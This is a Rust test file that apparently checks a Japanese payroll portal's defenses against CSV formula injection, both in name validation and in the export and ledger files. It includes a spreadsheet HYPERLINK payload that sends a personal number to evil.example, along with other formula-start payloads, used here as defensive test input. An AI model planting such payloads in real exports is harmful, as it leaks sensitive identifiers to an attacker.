//! Formula injection (OWASP "CSV Injection"): a name typed as a formula is refused wherever
//! a name is typed, and every CSV file a person may open in a spreadsheet (the payroll
//! export, the three ledgers) is read back with the `csv` crate and holds no cell that a
//! spreadsheet would run.

use sqlx::Connection;
use storage::staff::Role;

use crate::helpers::{Db, NUMBER, Spawn, TestApp, json, spawn_app, spawn_with, tool_missing};
use crate::portal_pages::{location, page, person, post_form, signed_in};
use crate::staff_helpers::{claim_and_verify, enrolled, submitted_as};

/// The provider name of the finding: in the export it would send column E, the number.
const HYPERLINK: &str = "=HYPERLINK(\"https://evil.example/?n=\"&E2,\"click\")";

/// Whether a file must start with the UTF-8 byte-order mark.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Bom {
    /// A file for people (ledgers): Excel needs it to read UTF-8 Japanese.
    Present,
    /// The payroll export, read by payroll systems.
    Absent,
}

/// Reads any of our CSV files with the `csv` crate, checks the byte-order mark and that no
/// cell starts with a character a spreadsheet reads as a formula (`=`, `+`, `-`, `@`, tab,
/// CR, or spaces and then one of them), and returns the rows (header included).
pub fn assert_spreadsheet_safe(bytes: &[u8], bom: Bom, what: &str) -> Vec<Vec<String>> {
    assert_eq!(
        bytes.starts_with(b"\xEF\xBB\xBF"),
        bom == Bom::Present,
        "{what}: byte-order mark should be {bom:?}"
    );
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes);
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect())
        .collect();
    assert!(!rows.is_empty(), "{what} has a header");
    let formula = ['=', '+', '-', '@', '\t', '\r'];
    for (line, row) in rows.iter().enumerate() {
        for cell in row {
            assert!(
                !cell.starts_with(formula) && !cell.trim_start_matches(' ').starts_with(formula),
                "{what}, row {line}: the cell {cell:?} would run as a formula"
            );
        }
    }
    rows
}

async fn spawn_paying(db: Db) -> Option<(TestApp, &'static tests::age::AgeKey)> {
    static KEY: std::sync::OnceLock<Option<tests::age::AgeKey>> = std::sync::OnceLock::new();
    let key = KEY
        .get_or_init(|| {
            tests::age::keygen()
                .map_err(|e| tool_missing("age-keygen", &e))
                .ok()
        })
        .as_ref()?;
    let app = spawn_with(Spawn {
        db,
        tweak: |s| {
            s.payroll_recipient = KEY
                .get()
                .and_then(Option::as_ref)
                .map(|k| k.recipient.clone());
        },
        ..Spawn::default()
    })
    .await?;
    Some((app, key))
}

#[tokio::test]
async fn the_payroll_export_and_the_ledgers_hold_no_formula_on_sqlite() {
    if let Some((app, key)) = spawn_paying(Db::Sqlite).await {
        payroll_export_and_ledgers(app, key).await;
    }
}

#[tokio::test]
async fn the_payroll_export_and_the_ledgers_hold_no_formula_on_postgresql() {
    if let Some((app, key)) = spawn_paying(Db::Postgres).await {
        payroll_export_and_ledgers(app, key).await;
    }
}

/// A release whose purpose is typed as a formula, of a person whose name was stored as one
/// before names refused it: the export and every ledger neutralise both.
async fn payroll_export_and_ledgers(app: TestApp, key: &tests::age::AgeKey) {
    let handed = vec![submitted_as(&app, "TKY", "E001").await];
    sqlx::any::install_default_drivers();
    let mut conn = sqlx::AnyConnection::connect(&app.db.url).await.expect("db");
    sqlx::query("UPDATE subjects SET name = $1 WHERE id = $2")
        .bind(HYPERLINK)
        .bind(handed[0].subject_id.clone())
        .execute(&mut conn)
        .await
        .expect("a name stored before the rule");
    let first = enrolled(&app, "officer.a", Role::Officer, &["TKY"]).await;
    let second = enrolled(&app, "officer.b", Role::Officer, &["TKY"]).await;
    let verified = claim_and_verify(&app, &first, &handed).await;
    let release_id = first.propose_release(&app, &[verified], "=1+1").await;
    second
        .approve_release(&app, &release_id, &second.next_code())
        .await;
    let sealed = second
        .post(
            &app,
            &format!("/api/v1/officer/releases/{release_id}/export"),
        )
        .send()
        .await
        .expect("download")
        .bytes()
        .await
        .expect("bytes");
    let export = tests::age::decrypt(&key.identity, &sealed).expect("age opens the export");
    let rows = assert_spreadsheet_safe(&export, Bom::Absent, "payroll export");
    assert_eq!(
        rows[0],
        [
            "employee_code",
            "name",
            "furigana",
            "relationship",
            "number",
            "verification_method",
            "checker",
            "date",
            "person_id",
            "birth_date",
            "address",
            "no_number_reason",
            "change",
            "change_date"
        ]
    );
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[1][0], "E001", "real values are exact");
    assert_eq!(rows[1][1], format!("'{HYPERLINK}"));
    assert_eq!(rows[1][4], NUMBER);
    assert_eq!(rows[1][6], "officer.a");
    assert!(
        export.windows(2).filter(|w| w == b"\r\n").count() == 2,
        "CRLF line ends"
    );

    let auditor = enrolled(&app, "auditor.a", Role::Auditor, &[]).await;
    for ledger in ["files", "exports", "disposals"] {
        let csv = auditor
            .get(&app, &format!("/api/v1/admin/ledgers/{ledger}?format=csv"))
            .send()
            .await
            .expect("ledger");
        assert_eq!(csv.status(), 200);
        let bytes = csv.bytes().await.expect("bytes");
        let rows = assert_spreadsheet_safe(&bytes, Bom::Present, ledger);
        if ledger == "exports" {
            let column = |name: &str| {
                rows[0]
                    .iter()
                    .position(|c| c == name)
                    .unwrap_or_else(|| panic!("{name} column"))
            };
            assert!(rows.len() >= 2, "the release's row");
            // The purpose is the configured one; the note typed beside it is neutralised.
            assert!(
                rows[1..]
                    .iter()
                    .all(|r| r[column("purpose")] == tests::staff::RELEASE_PURPOSE)
            );
            assert!(
                rows[1..]
                    .iter()
                    .all(|r| r[column("purpose_note")] == "'=1+1")
            );
        }
    }
}

#[tokio::test]
async fn a_name_typed_as_a_formula_is_refused_in_both_languages_on_the_api_the_page_and_the_roster()
{
    let app = spawn_app().await;
    let token = app.invite(None).await;
    assert_eq!(app.sign_in(&token, None).await.status(), 200);
    for name in [HYPERLINK, "+81 3 1234", "-Smith", "@SUM(A1)", " =1+1"] {
        let refused = app
            .client
            .put(app.url("/api/v1/provider/subjects/self"))
            .json(&serde_json::json!({
                "number": NUMBER, "name": name, "name_kana": "やまだ", "birth_date": "1990-04-01"
            }))
            .send()
            .await
            .expect("save");
        assert_eq!(refused.status(), 422, "{name}");
        let error = json(refused).await["error"].clone();
        assert_eq!(error["code"], "name_formula_start", "{name}");
        assert_eq!(error["field"], "name");
        assert!(error["message_ja"].as_str().expect("ja").contains("氏名"));
        assert!(error["message_en"].as_str().expect("en").contains("name"));
    }
    // Real names that hold these characters inside are kept.
    for name in ["Smith-Jones", "グエン＝ヴァン"] {
        let saved = app
            .client
            .put(app.url("/api/v1/provider/subjects/self"))
            .json(&serde_json::json!({
                "number": NUMBER, "name": name, "name_kana": "やまだ", "birth_date": "1990-04-01"
            }))
            .send()
            .await
            .expect("save");
        assert_eq!(saved.status(), 200, "{name}");
    }

    // The page: the same refusal, in Japanese and in English.
    let (c, csrf) = signed_in(&app).await;
    let mut form = person(&csrf, NUMBER, "ヤマダ", "1990-04-01");
    form[1] = ("name", HYPERLINK);
    let r = post_form(&c, &app, "/p/self", &form).await;
    assert_eq!(r.status(), 303);
    assert_eq!(location(&r), "/p/self");
    let (_, html) = page(&c, &app, "/p/self").await;
    assert!(html.contains("氏名の先頭に"), "refused in Japanese");
    let r = post_form(&c, &app, "/p/self", &form).await;
    assert_eq!(r.status(), 303);
    let (_, english) = page(&c, &app, "/p/self?lang=en").await;
    assert!(
        english.contains("The name cannot start with"),
        "refused in English"
    );

    // The roster (and the API's batch): the row is refused, naming the column.
    let admin = enrolled(&app, "admin.a", Role::Admin, &[]).await;
    let refused = admin
        .post(&app, "/api/v1/admin/invitations")
        .json(&serde_json::json!({"invitations": [
            {"employee_code": "E1", "name": "=1+1", "branch": "TKY"}
        ]}))
        .send()
        .await
        .expect("invite");
    assert_eq!(refused.status(), 422);
    let body = json(refused).await;
    assert_eq!(body["rows"][0]["column"], "name");
    assert_eq!(body["rows"][0]["code"], "name_formula_start");
}
